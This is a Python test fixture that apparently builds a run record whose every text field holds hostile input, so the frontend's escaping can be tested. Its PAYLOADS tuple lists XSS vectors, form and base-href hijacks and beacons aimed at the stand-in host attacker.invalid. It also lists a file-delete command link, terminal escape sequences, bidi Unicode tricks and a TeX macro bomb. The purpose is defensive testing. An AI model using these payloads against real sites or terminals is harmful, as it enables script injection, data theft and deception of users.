"""A run whose every text tries to be more than text."""

from __future__ import annotations

from dataclasses import replace

from reflect_lab.core.critique import Critique, Discarded, Ground, Issue
from reflect_lab.core.drafts import diff
from reflect_lab.core.evidence import Evidence, Finding, Location, Sandbox
from reflect_lab.core.policy import Policy
from reflect_lab.core.run import (
    Candidate,
    Decision,
    Draft,
    Feedback,
    ModelUse,
    Notice,
    Outcome,
    Round,
    Run,
    RunError,
    Usage,
)
from reflect_lab.core.task import CheckSpec, Fact, Requirement, Task
from tests.frontend.run_parts import calls

PAYLOADS = (
    "<script>window.hit='script'</script>",
    "<img src=//attacker.invalid/a.png onerror=\"window.hit='img'\">",
    "<svg/onload=window.hit='svg'>",
    "<iframe srcdoc=\"<script>parent.hit='frame'</script>\"></iframe>",
    "[link](javascript:window.hit='link') ![i](http://attacker.invalid/md.png)",
    "<a href=\"data:text/html,x\" data-commandlinker-command=\"filebrowser:delete\">press</a>",
    "<form action=http://attacker.invalid/><input id=body name=cookie></form><base href=//attacker.invalid>",
    "<style>*{background:url(http://attacker.invalid/css)}</style>"
    "<meta http-equiv=refresh content='0;url=//attacker.invalid'>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit='m'>\"></textarea></xmp></title>",
    "</script><script>window.hit='close'</script> <!-- ]]> --> ```",
    "\x1b[31mred\x1b]8;;http://attacker.invalid\x07osc\x1b]52;c;aGk=\x07 bell\x07 nul\x00 del\x7f",
    "bidi \u202e}txet\u202c isolate\u2066x\u2069 zero\u200bwidth \ufeffbom soft\u00adhyphen \u061c",
    "$\\href{javascript:window.hit='tex'}{x}$ \\(\\unicode{x202e}\\) $$\\def\\a{\\a\\a}\\a$$",
    "astral \U0001f9ea\U0001f9ea and lone \ud83e end",
)  # fmt: skip


def hostile() -> Run:
    """Every text of the record tries to be more than text."""
    attack = "\n".join(PAYLOADS) + "\n"
    parent = "quiet line\nastral \U0001f9ea before\n" + attack
    revised = "quiet line\nastral \U0001f9ea after\n" + attack + PAYLOADS[1] + "\n"
    task = Task(
        text=attack,
        requirements=tuple(Requirement(id=f"R{i + 1}", text=text) for i, text in enumerate(PAYLOADS[:4])),
        facts=(Fact(index=0, text=PAYLOADS[4]),),
        checks=(CheckSpec(name=PAYLOADS[0], kind="text"),),
        name=PAYLOADS[1],
    )
    evidence = Evidence(
        source=PAYLOADS[0],
        kind="text",
        rank="deterministic",
        status="failed",
        text=attack,
        findings=(
            Finding(id=PAYLOADS[2], status="failed", message=attack, location=Location(kind=None, value=PAYLOADS[3])),
        ),
        sandbox=Sandbox(level=2, name=PAYLOADS[3], verdict_integrity="split"),
        provenance={PAYLOADS[0]: PAYLOADS[1]},
        seconds=0.5,
    )
    issue = Issue(
        key=PAYLOADS[0],
        id=PAYLOADS[1],
        severity="blocking",
        source=PAYLOADS[0],
        requirement="R1",
        location=Location(kind="quote", value=PAYLOADS[2]),
        evidence=attack,
        suggestion=attack,
        ground=Ground(kind="task", source="task", start=3, end=len(attack) - 40),
    )
    critique = Critique(
        validity="ok",
        score=0.1,
        score_kind="critic",
        issues=(issue,),
        discarded=(Discarded(id=PAYLOADS[1], severity="minor", reason=attack, evidence=attack, suggestion=attack),),
    )
    rounds = tuple(
        Round(
            index=i,
            draft=Draft(
                index=i,
                text=text,
                mode="first" if i == 0 else "rewrite",
                parent=None if i == 0 else 0,
                diff=None if i == 0 else diff(parent, revised),
                raw=attack,
                reasoning=attack,
                refused=attack,
                ambiguous=attack,
                patch_failed=attack,
            ),
            others=(Candidate(draft=Draft(index=i, text=attack, candidate=1)),),
            evidence=(evidence,),
            critique=critique,
            feedback=Feedback(mode="rewrite", sent=(PAYLOADS[1],), withheld=(PAYLOADS[0],)),
            decision=Decision(
                action="revise" if i == 0 else "stop",
                reason="repeated_failure",
                message=attack,
                numbers={PAYLOADS[0]: PAYLOADS[1], "rounds": 2},
            ),
            usage=Usage(calls=2, input_tokens=10, output_tokens=10, seconds=1.0, cost=0.0001, currency="USD"),
        )
        for i, text in enumerate((parent, revised))
    )
    return Run(
        run_id="01K5HOSTILE00000000000XSS",
        task=task,
        policy=Policy(),
        rounds=rounds,
        outcome=Outcome(
            status="escalated",
            stop_reason="repeated_failure",
            draft_index=1,
            draft=revised,
            open_blocking=(PAYLOADS[1],),
            message=attack,
            error=RunError(kind="internal", message=attack),
        ),
        usage=Usage(calls=4, input_tokens=20, output_tokens=20, seconds=2.0, cost=0.0002, currency="USD"),
        ledger=(replace(calls("generator", 0, 1, (10, 10), 1.0), error=attack, model=PAYLOADS[0], text=attack),),
        models={PAYLOADS[0]: ModelUse(requested=PAYLOADS[1], answered=PAYLOADS[2], endpoint=PAYLOADS[4])},
        notices=(Notice(kind=PAYLOADS[0], message=attack),),
        versions={PAYLOADS[0]: PAYLOADS[1]},
        tags={PAYLOADS[0]: PAYLOADS[1]},
        name=PAYLOADS[1],
    )
